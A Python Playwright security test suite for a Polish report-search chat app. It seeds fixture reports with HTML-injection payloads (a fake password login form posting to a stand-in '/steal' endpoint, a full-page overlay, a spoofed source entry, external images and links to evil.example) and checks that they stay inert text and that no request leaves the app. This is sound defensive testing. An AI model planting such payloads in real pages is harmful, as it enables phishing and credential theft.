"""Report text never becomes live HTML, nothing outside the server is loaded, no credential is kept
in the browser: the real app over reports carrying attack payloads, in headless Chromium."""

from __future__ import annotations

import json
import urllib.request
from types import SimpleNamespace

import pytest
from playwright.sync_api import expect

from .conftest import MODEL_CACHE
from .ui_fixtures import ADMIN, served

pytestmark = pytest.mark.browser

STEAL = "http://127.0.0.1:8999/steal"
FORM = f'<form action="{STEAL}"><input name="haslo" type="password"><button>Zaloguj</button></form>'
OVERLAY = (
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;'
    'z-index:9999">Serwis nieczynny</div>'
)
FAKE_DETAILS = "<details open><summary>[9] Oficjalne źródło ministerstwa</summary>Zadzwoń</details>"
REPORTS = {
    "piekarnia.md": (
        "---\ntitle: Piekarnia Pod Lipami ![p](http://evil.example/title.png)\ndate: 2019-05-01\n"
        "region: mazowieckie\n---\n"
        f"Spółdzielnia Socjalna „Pod Lipami” prowadzi piekarnię w Siedlcach. {FORM} "
        "Piekarnia zatrudnia siedem osób i wypieka chleb na zakwasie dla szkół w Siedlcach. "
        "Więcej na [stronie spółdzielni](http://evil.example/phish) i pod adresem "
        "http://evil.example/bare oraz www.evil.example. ![p](http://evil.example/p.png)\n"
    ),
    "kawiarnia.md": (
        "---\ntitle: Kawiarnia w Kutnie\ndate: 2020-03-01\nregion: łódzkie\n---\n"
        f"Fundacja „Zielony Ogród” prowadzi kawiarnię w Kutnie. {OVERLAY} "
        f"Kawiarnia zatrudnia pięć osób z niepełnosprawnościami. {FAKE_DETAILS} "
        "Kawiarnia piecze ciasta dla mieszkańców Kutna.\n"
    ),
    "ogloszenie.html": (
        "<html><head><title>Pracownia w Płocku</title></head><body><article><h1>Pracownia w "
        "Płocku</h1><p>Stowarzyszenie „Nowy Start” prowadzi pracownię stolarską w Płocku. "
        "&lt;form action=&quot;http://127.0.0.1:8999/steal&quot;&gt;&lt;input type=&quot;"
        "password&quot; name=&quot;haslo&quot;&gt;&lt;/form&gt; Pracownia zatrudnia "
        "sześć osób i wytwarza meble ogrodowe dla gmin z okolic Płocka. &lt;img src=&quot;"
        "http://evil.example/entity.png&quot;&gt;</p></article></body></html>"
    ),
}
QUESTION = "Która spółdzielnia prowadzi piekarnię w Siedlcach?"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory):
    """`praktyki serve` over a corpus of reports carrying the payloads."""
    work = tmp_path_factory.mktemp("hostile")
    corpus = work / "corpus"
    corpus.mkdir()
    for name, text in REPORTS.items():
        (corpus / name).write_text(text, "utf-8")
    env = {
        "PRAKTYKI_DATA_DIR": str(MODEL_CACHE),
        "PRAKTYKI_CORPUS_DIR": str(corpus),
        "PRAKTYKI_INDEX_DIR": str(work / "index"),
        "PRAKTYKI_ADMIN_USER": ADMIN[0],
        "PRAKTYKI_ADMIN_PASSWORD": ADMIN[1],
        "PRAKTYKI_APP_DB": str(work / "app.sqlite"),
        "PRAKTYKI_MAX_UPLOAD_MB": "1",
    }
    log_path = work / "serve.log"
    with served([], env, log_path, limit=240) as url:
        yield SimpleNamespace(url=url, log=log_path, work=work)


@pytest.fixture
def page(browser):
    """A page that lets through only requests to the app itself and records every other."""
    context = browser.new_context(viewport={"width": 1200, "height": 900}, locale="pl-PL")
    page = context.new_page()
    page.elsewhere = []

    def only_the_app(route):
        url = route.request.url
        if url.startswith(("data:", "blob:")) or url.startswith(page.app_url):
            route.continue_()
        else:
            page.elsewhere.append(url)
            route.abort()

    context.route("**/*", only_the_app)
    yield page
    context.close()


def _open(page, url: str):
    page.app_url = url
    response = page.goto(url)
    page.get_by_label("Twoje pytanie").wait_for(timeout=30_000)
    return response


def _ask(page, question: str) -> None:
    count = page.locator("#chat .message.bot, #chat [data-testid='bot']").count()
    page.get_by_label("Twoje pytanie").fill(question)
    page.get_by_role("button", name="Zapytaj").click()
    page.locator("#chat .message.bot, #chat [data-testid='bot']").nth(count).wait_for(
        timeout=90_000
    )
    page.locator("#chat details").first.wait_for(state="attached", timeout=90_000)


def _live_markup(page, root: str) -> dict[str, int]:
    """Elements report text must never create inside ``root``."""
    return page.evaluate(
        """(root) => {
            const box = document.querySelector(root);
            const all = [...box.querySelectorAll('*')];
            return {
                forms: box.querySelectorAll('form').length,
                passwords: box.querySelectorAll('input[type=password]').length,
                inputs: box.querySelectorAll('input, button[form]').length,
                images: box.querySelectorAll('img[src*="evil"], img[src*="8999"]').length,
                links: box.querySelectorAll('a[href*="evil"], a[href*="8999"]').length,
                fixed: all.filter(e => getComputedStyle(e).position === 'fixed').length,
                fake_sources: [...box.querySelectorAll('summary')]
                    .filter(s => s.textContent.includes('Oficjalne')).length,
            };
        }""",
        root,
    )


NOTHING_LIVE = {
    "forms": 0,
    "passwords": 0,
    "inputs": 0,
    "images": 0,
    "links": 0,
    "fixed": 0,
    "fake_sources": 0,
}


def test_payloads_in_reports_stay_text_in_chat_viewer_and_trainer(hostile, page):
    response = _open(page, hostile.url)
    _ask(page, QUESTION)
    page.evaluate("document.querySelectorAll('#chat details').forEach(d => d.open = true)")
    chat = page.locator("#chat").text_content()
    assert "<form action=" in chat  # shown as the report's text...
    assert "Serwis nieczynny" in chat
    assert _live_markup(page, "#chat") == NOTHING_LIVE  # ...never as live markup
    assert page.locator("#chat details").count() == len(REPORTS)

    for option in range(len(REPORTS)):
        page.locator("#open-source input, #open-source").first.click()
        page.get_by_role("option").nth(option).click()
        page.locator("#viewer mark#passage").wait_for(timeout=30_000)
        assert _live_markup(page, "#viewer") == NOTHING_LIVE

    page.get_by_role("tab", name="Przykłady do warsztatów").click()
    topic = page.locator("#trainer-topic textarea, #trainer-topic input").first
    topic.fill("piekarnia kawiarnia pracownia stolarska ![x](http://evil.example/topic.png)")
    page.locator("#trainer-find").click()
    page.locator("#trainer-result h1").wait_for(timeout=90_000)
    assert "![x]" in page.locator("#trainer-result").inner_text()
    assert _live_markup(page, "#trainer-result") == NOTHING_LIVE

    page.wait_for_timeout(500)
    assert page.elsewhere == [], "a request left the app"
    policy = response.headers["content-security-policy"]
    assert "form-action 'self'" in policy and "img-src 'self' data: blob:" in policy


def test_a_report_form_cannot_post_anywhere_even_if_injected(hostile, page):
    """The CSP holds even if markup slipped through: a form posting off-site is blocked."""
    _open(page, hostile.url)
    blocked = page.evaluate(
        """(target) => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation',
                e => resolve(e.violatedDirective), {once: true});
            const form = document.createElement('form');
            form.action = target; form.method = 'post';
            document.body.appendChild(form); form.submit();
            setTimeout(() => resolve('not blocked'), 3000);
        })""",
        STEAL,
    )
    assert blocked == "form-action"
    assert not [u for u in page.elsewhere if "8999" in u]


def test_security_headers_on_every_response(hostile):
    for path in ("/", "/gradio_api/info", "/config"):
        with urllib.request.urlopen(hostile.url + path, timeout=10) as response:
            headers = response.headers
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "no-referrer"


def test_a_foreign_host_header_is_refused(hostile):
    request = urllib.request.Request(hostile.url, headers={"Host": "evil.example"})
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=10)
    assert refused.value.code == 400


def test_nothing_credential_like_is_kept_in_the_browser(hostile, page):
    _open(page, hostile.url)
    _ask(page, QUESTION)
    page.get_by_role("tab", name="Administracja").click()
    page.locator("#admin-user input, #admin-user textarea").first.fill(ADMIN[0])
    page.locator("#admin-pass input").first.fill(ADMIN[1])
    page.locator("#admin-login").click()
    page.get_by_text("Zalogowano jako").wait_for(timeout=30_000)
    page.locator("#admin-docs").get_by_text("Piekarnia Pod Lipami").first.wait_for(
        state="attached", timeout=30_000
    )
    listed = _live_markup(page, "#admin-docs")  # report titles and organisations
    assert {k: listed[k] for k in ("forms", "images", "links")} == {
        "forms": 0,
        "images": 0,
        "links": 0,
    }
    page.wait_for_timeout(1000)
    stored = page.evaluate(
        """() => {
            const dump = s => Object.fromEntries(
                [...Array(s.length).keys()].map(i => [s.key(i), s.getItem(s.key(i))]));
            return {local: dump(localStorage), session: dump(sessionStorage),
                    cookies: document.cookie};
        }"""
    )
    text = json.dumps(stored, ensure_ascii=False)
    assert ADMIN[1] not in text
    assert "admin_login" not in text
    assert QUESTION not in text
    assert not [k for k in stored["local"] if "run-history" in k]


def test_uploads_without_login_are_capped_in_size(hostile):
    import httpx

    small = httpx.post(
        f"{hostile.url}/gradio_api/upload", files={"files": ("a.txt", b"x" * 100_000)}
    )
    assert small.status_code == 200
    big = httpx.post(
        f"{hostile.url}/gradio_api/upload", files={"files": ("a.txt", b"x" * 2_000_000)}
    )
    assert big.status_code == 413


def test_admin_logs_out(hostile, page):
    _open(page, hostile.url)
    page.get_by_role("tab", name="Administracja").click()
    page.locator("#admin-user input, #admin-user textarea").first.fill(ADMIN[0])
    page.locator("#admin-pass input").first.fill(ADMIN[1])
    page.locator("#admin-login").click()
    page.get_by_text("Zalogowano jako").wait_for(timeout=30_000)
    expect(page.locator("#admin-upload")).to_be_visible(timeout=15_000)
    page.locator("#admin-logout").click()
    page.get_by_text("Wylogowano.").wait_for(timeout=30_000)
    expect(page.locator("#admin-upload")).to_be_hidden(timeout=15_000)
